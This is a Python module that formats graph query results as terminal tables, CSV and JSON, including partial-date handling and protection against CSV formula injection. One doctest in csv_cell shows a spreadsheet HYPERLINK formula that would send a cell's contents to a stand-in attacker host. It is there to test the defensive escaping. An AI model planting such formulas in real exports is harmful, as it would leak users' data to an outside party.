"""Rows of query results as a terminal table, CSV or JSON (and a spreadsheet: ``spreadsheet``).

A date column ``X`` with its precision column ``XPrecision`` (as the canned queries return
them) becomes one column of ``PartialDate`` values, printed at their precision: ``2013``,
``2013-05`` or ``2013-05-17``.
"""

from __future__ import annotations

import csv
import datetime
import io
import json
import shutil
import textwrap

from munigraph.graph.dates import PartialDate
from munigraph.graph.words import kind_name, role_name, status_name
from munigraph.language import _, pgettext

FORMATS = ("table", "csv", "json")
BOM = "\ufeff"
SEPARATORS = {",": ",", ";": ";", "\t": "\t", "\\t": "\t", "tab": "\t"}  # CSV separators, as given
VOCABULARY = {"kind": kind_name, "role": role_name, "partner_role": role_name, "status": status_name}
MIN_WIDTH = 16  # the narrowest a table column may get before rows become blocks
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may take for a formula


class Rows(list):
    """The rows of a query as dicts, with ``keys`` (the columns, in order) and ``counters``
    (what a writing query changed, by name). Dates are ``datetime.date``, except a date
    column with its precision column (``start``, ``startPrecision``): that is one column of
    ``PartialDate`` values, ``None`` where there is no date.

    >>> rows = Rows([{"n": 1}], ["n"])
    >>> rows, rows.keys, rows.counters
    ([{'n': 1}], ['n'], {})
    >>> year = Rows([{"start": datetime.date(2013, 1, 1), "startPrecision": "year"}],
    ...             ["start", "startPrecision"])
    >>> year, year.keys
    ([{'start': PartialDate('2013')}], ['start'])
    """

    def __init__(self, rows=(), keys=(), counters=None):
        keys = list(keys)
        dates = [k for k in keys if f"{k}Precision" in keys]
        super().__init__(_with_precision(row, dates) for row in native(list(rows)))
        self.keys = [k for k in keys if k not in {f"{d}Precision" for d in dates}]
        self.counters = dict(counters or {})

    def to_frame(self):
        """The rows as a pandas DataFrame with the query's columns (``pip install
        'munigraph[pandas]'``); a date with its precision stays a ``PartialDate`` (an
        object column: ``str()`` gives its text, ``.date`` its first day)."""
        try:
            import pandas
        except ImportError:
            from munigraph.graph.errors import MunigraphError

            raise MunigraphError("as_frame=True needs pandas: pip install 'munigraph[pandas]'") from None
        return pandas.DataFrame(list(self), columns=self.keys)

    def format(self, fmt: str = "table", width: int | None = None, sep: str = ",") -> str:
        """The rows as a terminal table, CSV or JSON text (``format_rows``)."""
        return format_rows(self, self.keys, fmt, width, sep)

    def to_xlsx(self, out, *, query: str, parameters: dict, sources: list | None = None,
                description: str | None = None) -> None:
        """Write the rows as a spreadsheet to ``out`` (a path or a binary file): the rows
        with typed values, and a sheet about them: ``query`` (a canned query's name or the
        Cypher), its ``parameters``, when it ran and the ``sources`` behind the rows
        (``Munigraph.sources_of``); ``description`` says what a question that is not a canned
        query answers. See ``spreadsheet.workbook``."""
        from .spreadsheet import workbook, write

        write(out, workbook(self, query=query, parameters=parameters, sources=sources,
                            description=description))


def _with_precision(row: dict, dates) -> dict:
    """``row`` with each column of ``dates`` a ``PartialDate``, its precision column dropped."""
    for key in dates:
        precision = row.pop(f"{key}Precision", None) or "day"
        if isinstance(row.get(key), datetime.date):
            row[key] = PartialDate(row[key], precision)
    return row


def native(value):
    """A result value with the driver's date and time types as Python's ``datetime`` ones.

    >>> from neo4j.time import Date
    >>> native({"start": Date(2013, 1, 1), "names": ["Maputo"]})
    {'start': datetime.date(2013, 1, 1), 'names': ['Maputo']}
    """
    if isinstance(value, dict):
        return {k: native(v) for k, v in value.items()}
    if isinstance(value, list):
        return [native(v) for v in value]
    if hasattr(value, "to_native"):  # neo4j.time types
        return value.to_native()
    return value


def plain(value):
    """A result value as plain Python: dates as ISO text (at their precision), driver types
    as dicts/lists.

    >>> plain({"d": datetime.date(2013, 1, 1), "y": PartialDate(datetime.date(2013, 1, 1), "year"),
    ...        "l": [1, 2]})
    {'d': '2013-01-01', 'y': '2013', 'l': [1, 2]}
    """
    if isinstance(value, dict):
        return {k: plain(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [plain(v) for v in value]
    if hasattr(value, "iso_format"):  # neo4j.time types
        return value.iso_format()
    if isinstance(value, (datetime.date, datetime.datetime, PartialDate)):
        return value.isoformat()
    return value


def cell(value) -> str:
    """A value as one line of text; lists are joined with '; '.

    >>> cell(["Faro", "Olhão"])
    'Faro; Olhão'
    """
    value = plain(value)
    if value is None:
        return ""
    if isinstance(value, list):
        return "; ".join(cell(v) for v in value)
    if isinstance(value, dict):
        return json.dumps(value, ensure_ascii=False)
    return " ".join(str(value).split())


def csv_cell(value) -> str:
    """A value as a CSV cell for people: as ``cell`` writes it, with a ``'`` before a text
    that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, so that a
    spreadsheet shows it and never runs it as a formula (OWASP's rule against CSV
    injection); numbers stay numbers.

    >>> print(csv_cell('=HYPERLINK("http://evil.example/?leak="&A1,"x")'))
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")
    >>> csv_cell("+1+1"), csv_cell(["@SUM(1)", "Olhão"]), csv_cell(-3), csv_cell("Olhão")
    ("'+1+1", "'@SUM(1); Olhão", '-3', 'Olhão')
    """
    text = cell(value)
    number = isinstance(value, (int, float)) and not isinstance(value, bool)
    return "'" + text if text.startswith(FORMULA_START) and not number else text


def format_rows(rows: list[dict], keys: list[str], fmt: str = "table", width: int | None = None,
                sep: str = ",") -> str:
    """Render ``rows`` (dicts with ``keys``) as ``table``, ``csv`` or ``json`` text.

    CSV starts with a byte-order mark, so that spreadsheets (Excel above all) read it as
    UTF-8 and keep the accents; Python reads it with ``encoding="utf-8-sig"``. A text that a
    spreadsheet could take for a formula is written with a leading ``'`` (``csv_cell``). Its columns
    are separated by ``sep``: ``,``, ``;`` (what Excel expects where the decimal mark is a
    comma, as in Brazil and Portugal) or a tab (``\\t`` or ``tab`` also mean one).

    >>> print(format_rows([{"name": "Olhão", "n": 7}], ["name", "n"], "csv", sep=";").lstrip(BOM))
    name;n
    Olhão;7
    """
    if fmt == "json":
        return json.dumps([plain(row) for row in rows], ensure_ascii=False, indent=2)
    if fmt == "csv":
        out = io.StringIO()
        if sep not in SEPARATORS:
            from munigraph.graph.errors import MunigraphError

            raise MunigraphError(_("the CSV separator is ',', ';' or a tab, not {sep}").format(sep=repr(sep)))
        writer = csv.writer(out, delimiter=SEPARATORS[sep], lineterminator="\n")
        writer.writerow(keys)
        writer.writerows([[csv_cell(row.get(k)) for k in keys] for row in rows])
        return BOM + out.getvalue().rstrip("\n")
    shown = [{key: for_people(key, row.get(key)) for key in keys} for row in rows]
    return table(shown, keys, width or shutil.get_terminal_size((80, 24)).columns, headers(keys))


def for_people(key: str, value):
    """A value of column ``key`` as people read it: a word of the graph's vocabularies (a
    kind, a role, a status) in the interface language, anything else as it is.

    >>> from munigraph.language import speaking
    >>> with speaking("pt"):
    ...     for_people("kind", "Programme"), for_people("role", "host"), for_people("actor", "host")
    ('programa', 'anfitrião', 'host')
    """
    name = VOCABULARY.get(key)
    return name(value) if name and isinstance(value, str) else value


def headers(keys) -> list[str]:
    """The column names of a table for people, in the interface language (CSV and JSON keep
    the keys)."""
    return [pgettext("column", key) for key in keys]


def table(rows, keys, width=80, names=None) -> str:
    """A text table that fits ``width`` columns; long cells are cut with '…'. When the
    columns cannot all get ``MIN_WIDTH`` characters, one block per row instead (``records``).

    >>> print(table([{"name": "Olhão", "n": 7}], ["name", "n"]))
    name  | n
    ------+--
    Olhão | 7
    """
    names = names or keys
    cells = [[cell(row.get(k)) for k in keys] for row in rows]
    widths = [max([len(n)] + [len(r[i]) for r in cells]) for i, n in enumerate(names)]
    budget = width - 3 * (len(keys) - 1)
    if sum(min(w, MIN_WIDTH) for w in widths) > budget:
        return records(rows, keys, width, names)
    while sum(widths) > budget:
        widths[widths.index(max(widths))] -= 1

    def line(values):
        return " | ".join(_fit(v, w) for v, w in zip(values, widths)).rstrip()

    rule = "-+-".join("-" * w for w in widths)
    return "\n".join([line(names), rule] + [line(r) for r in cells])


def records(rows, keys, width=80, names=None) -> str:
    """One block per row, a line per column; long values wrap within ``width``.

    >>> print(records([{"partner": "CISGA", "topics": ["Shared public procurement"]}],
    ...               ["partner", "topics"], width=30))
    -[ 1 ]------------------------
    partner | CISGA
    topics  | Shared public
            | procurement
    """
    names = names or keys
    label = max(len(n) for n in names)
    lines = []
    for number, row in enumerate(rows, 1):
        lines.append(f"-[ {number} ]".ljust(width, "-"))
        for key, name in zip(keys, names):
            wrapped = textwrap.wrap(cell(row.get(key)), max(width - label - 3, 10)) or [""]
            lines += [f"{name if i == 0 else '':<{label}} | {part}".rstrip() for i, part in enumerate(wrapped)]
    return "\n".join(lines)


def _fit(text, width):
    return text.ljust(width) if len(text) <= width else text[: width - 1] + "…"
